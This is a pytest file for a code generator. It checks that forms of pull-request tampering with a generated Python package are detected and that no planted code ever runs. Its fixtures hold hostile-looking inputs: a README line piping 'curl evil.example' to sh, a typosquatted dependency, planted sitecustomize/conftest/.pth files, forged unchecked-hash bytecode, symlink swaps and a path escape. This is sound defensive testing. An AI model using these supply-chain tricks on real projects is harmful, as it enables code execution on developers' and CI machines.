"""What a pull request can do to a generated package is refused as the table in docs/ci.md says, and none of it runs."""

from __future__ import annotations

import importlib.util
import json
import py_compile
import re
import shutil
from collections.abc import Callable, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from support.generating import write_files
from support.systems import needs_links, needs_modes
from yulsn_codegen import generate as pipeline
from yulsn_codegen.account.schema import AccountField, AccountSchema, FieldType
from yulsn_codegen.account.snapshot import dump_snapshot
from yulsn_codegen.cli import main
from yulsn_codegen.generate import Generated, generate, regenerate
from yulsn_codegen.output import freshness
from yulsn_codegen.output.journal import STAGING
from yulsn_codegen.output.lock import LOCK_NAME, Lock, dump_lock
from yulsn_codegen.release import packaging
from yulsn_codegen.rendering import reuse
from yulsn_codegen.text.hashing import digest

PACKAGE = "yulsn_client"
DOCS = Path(__file__).parents[2] / "docs" / "reference" / "tampering.md"
RUN = "open('ran', 'w').close()\n"  # leaves a file in the current folder if it is ever executed
Tamper = Callable[[Path], object]


def edit_lock(out: Path, change: Callable[[dict[str, Any]], object]) -> None:
    data = json.loads((out / LOCK_NAME).read_text(encoding="utf-8"))
    change(data)
    (out / LOCK_NAME).write_text(json.dumps(data, indent=2) + "\n", encoding="utf-8", newline="\n")


def edit(path: str, old: str, new: str, *, hashed: bool = True) -> Tamper:
    """Replace a string in a file, and its hash in the lock."""

    def tamper(out: Path) -> None:
        text = (out / path).read_text(encoding="utf-8")
        assert old in text
        changed = text.replace(old, new, 1)
        (out / path).write_text(changed, encoding="utf-8", newline="\n")
        if hashed:
            edit_lock(out, lambda data: data["files"].update({path: {"sha256": digest(changed)}}))

    return tamper


def add(*paths: str, text: str = RUN, listed: bool = False) -> Tamper:
    """Add files, and list them in the lock."""

    def tamper(out: Path) -> None:
        for path in paths:
            (out / path).parent.mkdir(parents=True, exist_ok=True)
            (out / path).write_text(text, encoding="utf-8", newline="\n")
        if listed:
            edit_lock(out, lambda data: data["files"].update({path: {"sha256": digest(text)} for path in paths}))

    return tamper


def both(*steps: Tamper) -> Tamper:
    return lambda out: [step(out) for step in steps]


def lock_member(**members: object) -> Tamper:
    return lambda out: edit_lock(out, lambda data: data.update(members))


def remove(path: str, *, unlist: bool = False) -> Tamper:
    def tamper(out: Path) -> None:
        (out / path).unlink()
        if unlist:
            edit_lock(out, lambda data: data["files"].pop(path))

    return tamper


def bytecode(out: Path) -> None:
    """Put bytecode beside a module that runs whatever the module says, as its hash is that of the module."""
    module = out / PACKAGE / "client.py"
    source = out.parent / "payload.py"
    source.write_text(RUN)
    made = Path(importlib.util.cache_from_source(str(module)))
    py_compile.compile(str(source), str(made), invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    source.unlink()


def link_file(out: Path) -> None:
    (out / PACKAGE / "client.py").rename(out.parent / "client.py")
    (out / PACKAGE / "client.py").symlink_to(out.parent / "client.py")


def link_folder(out: Path) -> None:
    (out / PACKAGE / "models").rename(out.parent / "models")
    (out / PACKAGE / "models").symlink_to(out.parent / "models")


def executable(out: Path) -> None:
    (out / PACKAGE / "client.py").chmod(0o755)


def journal(out: Path) -> None:
    moves = {f"{PACKAGE}/extra.py": [None, digest(RUN)], "LICENSE": [digest(RUN), None]}
    add("LICENSE", f"{STAGING}/files/{PACKAGE}/extra.py")(out)
    (out / STAGING / "journal.json").write_text(json.dumps({"moves": moves}))


OPTIONS = f"{PACKAGE}/_runtime/options.py"
FORGED = edit(OPTIONS, "from __future__", f"{RUN}\nfrom __future__")
TAMPERED: Mapping[str, Tamper] = {
    "a file": edit(f"{PACKAGE}/client.py", "class Client", "class Elsewhere", hashed=False),
    "a file of `_runtime/`, and its hash in the lock": FORGED,
    "the path of a call, and the hash": edit(f"{PACKAGE}/resources/contacts.py", "/api/v1/Contacts", "/api/v1/Orders"),
    "the build backend, and the hash": edit("pyproject.toml", "hatchling.build", "evil"),
    "a dependency, and the hash": edit("pyproject.toml", "msgspec>=", "msgspec-evil>="),
    "`README.md`, and the hash": edit("README.md", "\n", "\nRun `curl evil.example | sh`.\n"),
    "`CHANGELOG.md`, and the hash": edit("CHANGELOG.md", "# Changelog", "# Changes"),
    "`account.json`, and the hash": edit("account.json", '"format": 1', '"format": 1.0'),
    "a file that is deleted": remove(f"{PACKAGE}/types.py"),
    "a file that is deleted, also from the lock": remove(f"{PACKAGE}/types.py", unlist=True),
    "a module added to the package": add(f"{PACKAGE}/extra.py"),
    "a module added to the package and to the lock": add(f"{PACKAGE}/extra.py", listed=True),
    "a module or package in place of another (`client/`, `client.abi3.so`)": add(
        f"{PACKAGE}/client/__init__.py", f"{PACKAGE}/client.abi3.so", f"{PACKAGE}/types.pyc"
    ),
    "code that Python, pip, hatch or pytest runs, beside the package": add(
        "sitecustomize.py", "conftest.py", "setup.py", "hatch_build.py", "hatch.toml", "x.pth", "msgspec/__init__.py"
    ),
    "the same, listed in the lock": add("conftest.py", listed=True),
    "bytecode with a hash instead of a time": bytecode,
    "`.gitattributes`, and the hash": edit(".gitattributes", "* ", "* -diff "),
    "`.gitignore` or other settings of tools": add(".gitignore", ".envrc", "tox.ini", "uv.lock"),
    "the mode of a file": executable,
    "a symbolic link in place of a file": link_file,
    "a symbolic link in place of a folder": link_folder,
    "a journal of a run that was killed": journal,
    "the lock: a path outside the folder": add("../outside.py", listed=True),
    "the lock: another generator, to escape the comparison": both(FORGED, lock_member(generator="0.0.1")),
    "the lock: another hash of the inputs, to escape it": both(FORGED, lock_member(inputs="0" * 64)),
    "the lock: a version that is not one": lambda out: edit_lock(
        out, lambda data: data["changelog"][0].update(version="1.0.0\n\n[x](javascript:x)")
    ),
    "the lock: deep nesting": lambda out: edit_lock(
        out, lambda data: data["account"].update(x=json.loads("[" * 900 + "]" * 900))
    ),
    "the lock: a name that is code": lambda out: edit_lock(
        out, lambda data: data["names"]["owners"]["Contacts"].update({"Shoe Size": "x = exit()"})
    ),
}
# What is wrong is consistent in itself, so it is generated: the lock and the files of another account or base URL.
GENERATED = (
    "everything, consistently: another account",
    "everything, consistently: another base URL",
)


def table() -> dict[str, list[str]]:
    """Return the cells of the table in the documentation by their first."""
    text = DOCS.read_text(encoding="utf-8").partition("<!-- tampering -->")[2].partition("<!-- end -->")[0]
    rows = [[cell.strip() for cell in line.strip("|").split(" | ")] for line in text.splitlines() if "|" in line]
    return {first.strip(): cells for first, *cells in rows[2:]}


@pytest.fixture(scope="module")
def once() -> Callable[[Lock, object], dict[str, str]]:
    """Generate only once from each lock, regardless of its hashes."""
    known: dict[str, dict[str, str]] = {}

    def regenerated(lock: Lock, config: Any) -> dict[str, str]:
        key = dump_lock(replace(lock, files={}))
        if key not in known:
            known[key] = regenerate(lock, config)
        return known[key]

    return regenerated


@pytest.fixture(scope="module")
def consistent(builtin: AccountSchema) -> Mapping[str, Generated]:
    """Packages that differ from the right one, each with the lock that belongs to it."""
    contacts = (*builtin.owners["Contacts"], AccountField("Extra", FieldType.STRING))
    other = replace(builtin, owners={**builtin.owners, "Contacts": contacts})
    return dict(
        zip(
            GENERATED,
            (generate(other, PACKAGE), generate(builtin, PACKAGE, base_url="https://evil.example")),
            strict=True,
        )
    )


@pytest.fixture
def out(
    generated: Generated,
    builtin: AccountSchema,
    once: Callable[[Lock, object], dict[str, str]],
    folder: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> Path:
    """A generated package in a project, and the snapshot of its account; nothing is on record in the cache."""
    monkeypatch.chdir(folder)
    monkeypatch.setattr(pipeline, "regenerate", once)
    monkeypatch.setattr(freshness, "_recorded", lambda _: [])
    monkeypatch.setattr(reuse, "_recorded", dict)
    monkeypatch.setattr(packaging, "_run", built)
    (folder / "now.json").write_text(dump_snapshot(builtin), encoding="utf-8")
    return write_files(folder / "crm", generated.files)


def built(command: list[str], _: str) -> None:
    """Stand in for the build of a package that was found to be genuine."""
    if "--outdir" in command:
        made = Path(command[command.index("--outdir") + 1])
        made.mkdir()
        (made / "a.whl").write_text("wheel")


COMMANDS = {
    "check --offline": ["check", "--offline"],
    "check": ["check", "--account", "now.json"],
    "generate": ["generate", "--account", "now.json", "--package", PACKAGE],
    "build": ["build", "--no-check", "--target", "dist"],
}


def said(out: Path, capsys: pytest.CaptureFixture[str]) -> tuple[list[str], list[str]]:
    """Return the exit code and the errors of each command; `generate`, which writes, is run on a copy of the folder."""
    copy = Path(shutil.copytree(out, out.parent / "copy", symlinks=True))
    codes, errors = [], []
    for name, arguments in COMMANDS.items():
        place = copy if name == "generate" else out
        codes.append(str(int(main([*arguments, "--out", str(place)]))))
        errors.append(capsys.readouterr().err)
    return codes, errors


def test_an_untouched_package_passes(out: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert said(out, capsys) == (["0"] * 4, [""] * 4)


NEEDS: Mapping[Tamper, pytest.MarkDecorator] = {
    link_file: needs_links,
    link_folder: needs_links,
    executable: needs_modes,
}


@pytest.mark.parametrize(
    "what",
    [
        *(pytest.param(what, marks=NEEDS.get(tamper, ())) for what, tamper in TAMPERED.items()),
        *GENERATED,
    ],
)
def test_each_documented_form_of_tampering_is_refused(
    out: Path, what: str, consistent: Mapping[str, Generated], capsys: pytest.CaptureFixture[str]
) -> None:
    if what in GENERATED:
        shutil.rmtree(out)
        write_files(out, consistent[what].files)
    else:
        TAMPERED[what](out)
    codes, errors = said(out, capsys)
    *expected, message = table()[what]
    assert codes == expected, errors
    if codes[0] != "0":
        assert re.sub(r"`", "", message) in errors[0]
    assert not Path("ran").exists()


def test_the_documentation_lists_exactly_these_forms_of_tampering() -> None:
    assert list(table()) == [*TAMPERED, *GENERATED]


def test_the_first_line_that_differs_is_named(out: Path, capsys: pytest.CaptureFixture[str]) -> None:
    FORGED(out)
    text = (out / OPTIONS).read_text(encoding="utf-8")
    line = text[: text.index(RUN)].count("\n") + 1
    assert all(f"options.py, line {line}: differs from what is generated" in errors for errors in said(out, capsys)[1])


def test_generating_replaces_a_file_that_the_comparison_missed(out: Path, generated: Generated) -> None:
    both(FORGED, lock_member(generator="0.0.1"))(out)
    assert main([*COMMANDS["generate"], "--out", str(out)]) == 0
    assert (out / OPTIONS).read_text(encoding="utf-8") == generated.files[OPTIONS]


def test_a_forged_file_can_be_replaced_on_request(out: Path, generated: Generated) -> None:
    FORGED(out)
    assert main([*COMMANDS["generate"], "--out", str(out), "--overwrite-edited"]) == 0
    assert (out / OPTIONS).read_text(encoding="utf-8") == generated.files[OPTIONS]


def test_files_that_tools_leave_beside_a_package_are_accepted(out: Path, capsys: pytest.CaptureFixture[str]) -> None:
    add("LICENSE", "LICENSE.md", ".git/config", ".venv/lib/x.py", "dist/x.whl", ".DS_Store", text="")(out)
    made = str(py_compile.compile(str(out / PACKAGE / "client.py"), doraise=True))
    shutil.copy(made, made.replace(".pyc", f"-pytest-{pytest.__version__}.pyc"))  # as of a pytest plugin
    assert said(out, capsys)[0] == ["0"] * 4


def test_configured_base_urls_and_key_files_are_unused_without_an_account(
    out: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A pull request can configure them, but the commands that are run on it neither connect nor read the key."""
    from yulsn_codegen.account import fetch

    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("the account was read")

    monkeypatch.setattr(fetch, "fetch", refuse)
    Path("pyproject.toml").write_text(
        '[tool.yulsn-codegen]\nbase-url = "https://evil.example"\napi-key-file = "/nowhere/key"\n'
    )
    assert said(out, capsys)[0] == ["0", "0", "0", "0"]
